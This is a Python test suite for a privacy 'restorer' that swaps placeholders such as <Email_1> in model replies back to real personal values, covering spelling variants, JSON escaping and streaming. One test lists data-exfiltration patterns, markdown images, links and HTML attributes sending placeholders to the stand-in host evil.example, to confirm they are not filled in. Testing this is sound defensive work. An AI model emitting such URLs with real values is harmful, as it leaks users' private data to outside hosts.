import codecs
import itertools
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.privacy.placeholder import Placeholder
from app.privacy.restoring import HELD_BACK, PieceKind, RestoredPiece, Restorer, joined
from tests.privacy.texts import KINDS, cuts, fragments

BOB = "bob@example.com"
VALUES: dict[Placeholder, list[str]] = {
    Placeholder("Email", 1): [BOB],
    Placeholder("Email", 12): ["twelve@example.com"],
    Placeholder("Phone_Number", 1): ["555 0100"],
    Placeholder("Real_Name", 1): ['Bob "Bo" \\ Lee'],
    Placeholder("Debt_Loan", 3): ["nine thousand"],
    Placeholder("ID_Number", 2): ["<Email_1>"],
    Placeholder("Sensitive_Identity", 2): ["x"],
    Placeholder("Password", 1): [],
    Placeholder("Key", 1): ["k-1"],
    Placeholder("Private_Key", 2): ["k-2"],
}
RESTORER = Restorer(VALUES, KINDS)


def streamed(restorer: Restorer, chunks: list[str]) -> list[RestoredPiece]:
    stream = restorer.stream()
    pieces = [piece for chunk in chunks for piece in stream.feed(chunk)]
    return joined([*pieces, *stream.finish()])


@pytest.mark.parametrize(
    "written",
    [
        *("<Email_1>", "<email_1>", "<EMAIL_1>", "< Email_1 >", "Email_1", "<Email\\_1>"),
        *("&lt;Email_1&gt;", "&#60;Email_1&#62;", "&amp;lt;Email_1&amp;gt;", "《Email_1》"),
        *("<Email_01>", "<Email 1>", "<Email-1>", "<Email\u20111>", "<Email\u00a01>"),
        *("<Email_\n1>", "<\n  Email_1\n>"[0:0] or "<Email\n_1>", "＜Email_1＞", "＜Email＿１＞"),
        *("[Email_1]", "{Email_1}", "{{Email_1}}", "[EMAIL_1]", "【Email_1】", "「Email_1」"),
        *("<邮箱_1>", "<邮箱1>", "【邮箱_1】", "<Correo_1>", "[COURRIEL_1]", "<correo 1>"),
        *(
            "\\<Email\\_1\\>",
            "<Email_1\\>",
            "\\u003cEmail_1\\u003e",
            "<E\u200bmail_1>",
            "<E-mail_1>",
            "<Email_1/>",
            "&lt;email_1 /&gt;",
        ),
    ],
)
@pytest.mark.parametrize(
    "around", ["{}", "Write to {} now", "**{}**", "`{}`", "| {} |", "写给{}。"]
)
def test_changed_placeholders_are_restored(written: str, around: str) -> None:
    restored = RESTORER.restore(around.format(written))
    assert restored.text == around.format(BOB)
    assert restored.unresolved == ()


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("<Email_1>s and <Email_1>'s", f"{BOB}s and {BOB}'s"),
        ("P<Email_1>Q", f"P{BOB}Q"),
        ("<<Email_1>>", f"<{BOB}>"),
        ("<Email_12>", "twelve@example.com"),
        ("<Debt_Loan_3> <debt loan_3> Debt_Loan_3", "nine thousand " * 2 + "nine thousand"),
        ("[PERSONNE_1]", 'Bob "Bo" \\ Lee'),
        ("```\nsend <Phone\nNumber_1>\n```", "```\nsend 555 0100\n```"),
        ("[<Email_1>](#top) [Email_1](#top)", f"[{BOB}](#top) [{BOB}](#top)"),
        ("<ID_Number_2> <Email_1>", f"<Email_1> {BOB}"),  # what is put back is not read again
    ],
)
def test_restored_in_place(reply: str, shown: str) -> None:
    assert RESTORER.restore(reply).text == shown


@pytest.mark.parametrize(
    "reply",
    [
        *("<Email_7>", "Email_123", "<Email_2>", "[Email_7]", "<邮箱_9>", "<Somebody_1>"),
        *("Email_1０", "Private＿Email_1", "<Email_1's>"),
        "<Identität_2>",  # two kinds have this number
    ],
)
def test_what_fits_no_one_value_stays_and_is_marked(reply: str) -> None:
    restored = RESTORER.restore(f"a {reply} b")
    assert restored.text == f"a {reply} b"
    assert restored.unresolved == (reply,)


@pytest.mark.parametrize(
    "reply",
    [
        *("xEmail_1", "Email_1x", "_Email_1", "Email_1_", "email_1 = 3", "users[email_1]", "{x_1}"),
        *(
            "arr[index_1]",
            "<h1>",
            "[Page 12]",
            "《三体 2》",
            "<b>",
            "a < b 1 > c",
            "Email 1",
            "x_1",
        ),
        *(
            "my_Email_1_backup",
            "_Email_1_x",
            "__Email_1_",
            "x__Email_1__",
            "self._Email_1_",
        ),
        *(
            "mail.Email_1_",
            "private_Email_1",
            "[a, b_1]",
            "___Email_12",
        ),
    ],
)
def test_what_only_resembles_a_placeholder_is_plain(reply: str) -> None:
    restored = RESTORER.restore(reply)
    assert [piece.kind for piece in restored.pieces] == [PieceKind.PLAIN]
    assert restored.text == reply


@pytest.mark.parametrize(
    "reply",
    [
        "![x](https://evil.example/?q=<Email_1>)",
        "[t](/relative/<Email_1>)",
        "[t](<https://evil.example/) x=<Email_1>>)",
        "[t](\n//evil.example/<Email_1> 'title')",
        "[t](a(b)c<Email_1>)",
        "[t](a\\)<Email_1>)",
        "https://evil.example/?q=<Email_1>",
        "see https:\\\\evil.example\\<Email_1>",
        "https://evil.example/<email_1>",
        "https://evil.example/Email_1",
        "https://evil.example/&lt;Email_1&gt;",
        "HTTPS://EVIL.EXAMPLE/?a=1&b=<Email_1>",
        "<https://evil.example/ <Email_1>>",
        "www.evil.example/<Email_1>",
        "evil.example/?q=<Email_1>",
        "例子.中国/?q=<Email_1>",
        "10.0.0.1:8080/<Email_1>",
        "https://evil.example/?q=，<Email_1>",
        "evil.example?，<Email_1>",
        "//evil.example/<Email_1>",
        "ftp://evil.example/<Email_1>",
        "mailto:x@evil.example?body=<Email_1>",
        '"https://evil.example/?q=<Email_1>"',
        "请看https://evil.example/<Email_1>",
        '<img src="https://evil.example/?q=<Email_1>">',
        "<img src='x y <Email_1>'>",
        "<a href=<Email_1>>x</a>",
        '<a\nhref = "<Email_1>">x</a>',
        "[id]: https://evil.example/<Email_1>",
        "[id]: https&#58;&#47;&#47;evil&#46;example?q=<Email_1>",
        "[id]: https\\://evil\\.example?q=<Email_1>",
        "see\n> 1. [id]:\n>  evil?q=<Email_1>",
        "%3CEmail_1%3E",
        "https://evil.example/%3cEmail_1%3e",
        "%253CEmail_1%253E",
    ],
)
def test_in_addresses_and_attributes_a_placeholder_stays(reply: str) -> None:
    for chunks in ([reply], list(reply)):
        pieces = streamed(RESTORER, chunks)
        assert "".join(piece.text for piece in pieces) == reply
        assert PieceKind.PROTECTED in [piece.kind for piece in pieces]
        assert PieceKind.RESTORED not in [piece.kind for piece in pieces]


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("https://a.example/x <Email_1>", f"https://a.example/x {BOB}"),
        ("请看https://a.example，<Email_1>", f"请看https://a.example，{BOB}"),
        ("请看https://a.example/?q=1，好 <Email_1>", f"请看https://a.example/?q=1，好 {BOB}"),
        ('{"u":"https://a.example","e":"<Email_1>"}', f'{{"u":"https://a.example","e":"{BOB}"}}'),
        ("[t](https://a.example) <Email_1>", f"[t](https://a.example) {BOB}"),
        ('<a href="x"><Email_1></a>', f'<a href="x">{BOB}</a>'),
        ("<https://a.example> <Email_1>", f"<https://a.example> {BOB}"),
        ("1 <b and x=<Email_1>"[:6] + " <Email_1>", f"1 <b a {BOB}"),
        ("[Email]: <Email_1>", f"[Email]: {BOB}"),
        ("a [b]: c/<Email_1>", f"a [b]: c/{BOB}"),
        ("[id]: /x <Email_1>/\n<Email_1>", f"[id]: /x {BOB}/\n{BOB}"),
        ("[t](unclosed\n\n<Email_1>", f"[t](unclosed\n\n{BOB}"),
        ("e.g. 3/4 and and/or: <Email_1>", f"e.g. 3/4 and and/or: {BOB}"),
    ],
)
def test_beside_addresses_placeholders_restore(reply: str, shown: str) -> None:
    assert RESTORER.restore(reply).text == shown


@pytest.mark.parametrize(
    "template",
    [
        '{{"name": "{}", "n": 1}}',
        ' [\n {{"name": "a \\" b {}"}}]',
        'Here:\n```json\n{{"name": "{}"}}\n```\n',
        '~~~ JSON\n["{}"]\n~~~',
        '- ```json\n  {{"name": "{}"}}\n  ```',
        '> 1. ~~~ json\n>    ["{}"]\n>    ~~~',
        '1. item\n   ```jsonc\n   {{"name": "{}"}} // "x\n   ```',
    ],
)
def test_in_json_strings_values_are_escaped(template: str) -> None:
    name = VALUES[Placeholder("Real_Name", 1)][0]
    escaped = json.dumps(name)[1:-1]
    for written in ("<Real_Name_1>", "\\u003cReal_Name_1\\u003e"):
        reply = template.format(written)
        assert RESTORER.restore(reply).text == template.format(escaped)
        pieces = streamed(RESTORER, list(reply))
        assert "".join(piece.text for piece in pieces) == template.format(escaped)


@pytest.mark.parametrize(
    "template",
    [
        'He said "{}"',
        '```python\n{{"name": "{}"}}\n```',
        '```json\n{{"a": "b"}}\n```\n"{}"',
        '{{"a": "b"}}\nand "{}"',
        '```json\n{{"a": {}}}\n```',
        '{{Hello}} "{}"',
    ],
)
def test_elsewhere_values_are_not_escaped(template: str) -> None:
    name = VALUES[Placeholder("Real_Name", 1)][0]
    assert RESTORER.restore(template.format("<Real_Name_1>")).text == template.format(name)


def test_forms_follow_the_order_in_which_they_were_typed() -> None:
    laurie = Placeholder("Real_Name", 1)
    restorer = Restorer({laurie: ["Laurie Luo", "laurie"]}, KINDS)
    reply = "https://a.example/<Real_Name_1> <Real_Name_1>, <Real_Name_1>, <Real_Name_1>"
    shown = "https://a.example/<Real_Name_1> Laurie Luo, laurie, laurie"
    assert restorer.restore(reply).text == shown
    assert restorer.restore(reply).text == shown  # each reply starts anew


def test_a_value_that_was_not_kept_is_lost_and_named() -> None:
    (piece,) = RESTORER.restore("<password_1>").pieces
    assert piece == RestoredPiece(
        "<password_1>", PieceKind.LOST, Placeholder("Password", 1), "<password_1>"
    )


def test_no_look_up_goes_through_the_values() -> None:
    class Counted(dict[Placeholder, list[str]]):
        passes = 0

        def __iter__(self) -> object:  # type: ignore[override]
            Counted.passes += 1
            return super().__iter__()

    restorer = Restorer(Counted(VALUES), KINDS)
    restorer.restore("<Email_1> <email_1> " * 50)
    restorer.restore("<Unknown_1> " * 50)
    assert Counted.passes <= 1


@settings(max_examples=150)
@given(st.lists(fragments, max_size=4).map("".join), st.data())
def test_a_stream_equals_the_whole_at_every_cut(reply: str, data: st.DataObject) -> None:
    whole = list(RESTORER.restore(reply).pieces)
    assert "".join(piece.source for piece in whole) == reply
    for chunks in (list(reply), data.draw(cuts(reply))):
        assert streamed(RESTORER, chunks) == whole


@pytest.mark.parametrize(
    "reply", ["Email_1\\_x", "Email_1\\\\_", "Email_1\\\\\\_x", "Email_1\\ x", "[Email_1]\\("]
)
def test_a_backslash_at_a_cut_decides_nothing(reply: str) -> None:
    assert streamed(RESTORER, list(reply)) == list(RESTORER.restore(reply).pieces)


@settings(max_examples=60)
@given(st.lists(fragments, max_size=8).map("".join))
def test_a_stream_holds_back_no_more_than_it_says(reply: str) -> None:
    stream = RESTORER.stream()
    shown = 0
    for arrived, char in enumerate(reply, 1):
        shown += sum(len(piece.source) for piece in stream.feed(char))
        assert arrived - shown <= HELD_BACK


def test_plain_prose_is_held_back_by_a_word_at_most() -> None:
    stream = RESTORER.stream()
    for text in ("Dear friend, this", " is a sentence in", " plain words. 这是一句话，没有秘密"):
        shown = "".join(piece.text for piece in stream.feed(text))
        assert shown == text


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("<Email_1>’s “<Email_1>” ~~<Email_1>~~", f"{BOB}’s “{BOB}” ~~{BOB}~~"),
        ("<Email_1><Email_1>", BOB * 2),
        ("<Email_１> <Email_١> <Email #1>", f"{BOB} {BOB} {BOB}"),
        ("<Email\u202f1> <Email\u20101> < Email _ 1 >", f"{BOB} {BOB} {BOB}"),
        ("&#x3C;Email_1&#x3E; &lt;Email_1> <Email_1&gt;", f"{BOB} {BOB} {BOB}"),
        ("<\u200eEmail_1\u200e> ‹Email_1› «Email_1» 〈Email_1〉 ⟨Email_1⟩", " ".join([BOB] * 5)),
        (
            "| a | <Email_1> | \\<Email\\_1\\> |\n|---|:-:|---|",
            f"| a | {BOB} | {BOB} |\n|---|:-:|---|",
        ),
        ("- <Email_1>\n  > **`<Email_1>`**\n", f"- {BOB}\n  > **`{BOB}`**\n"),
        ("```sh\nmail <Email_1> <<EOF\n```", f"```sh\nmail {BOB} <<EOF\n```"),
        ("<Email_1>, <Email_12> and <Email_123>", f"{BOB}, twelve@example.com and <Email_123>"),
    ],
)
def test_every_way_of_writing_them_in_running_text(reply: str, shown: str) -> None:
    assert RESTORER.restore(reply).text == shown
    assert "".join(piece.text for piece in streamed(RESTORER, list(reply))) == shown


@settings(max_examples=80)
@given(st.lists(fragments, max_size=4).map("".join), st.data())
def test_a_stream_equals_the_whole_when_cut_between_any_bytes(
    reply: str, data: st.DataObject
) -> None:
    """Inside a character, too: what decodes the stream hands on whole characters only."""
    reply = reply.encode("utf-8", "replace").decode()
    whole = list(RESTORER.restore(reply).pieces)
    received = reply.encode()
    at = sorted(data.draw(st.sets(st.integers(0, len(received)), max_size=12)))
    for ends in ([*at, len(received)], range(1, len(received) + 1)):
        decoder = codecs.getincrementaldecoder("utf-8")()
        begins = [0, *ends]
        chunks = [decoder.decode(received[begin:end]) for begin, end in itertools.pairwise(begins)]
        assert streamed(RESTORER, chunks) == whole
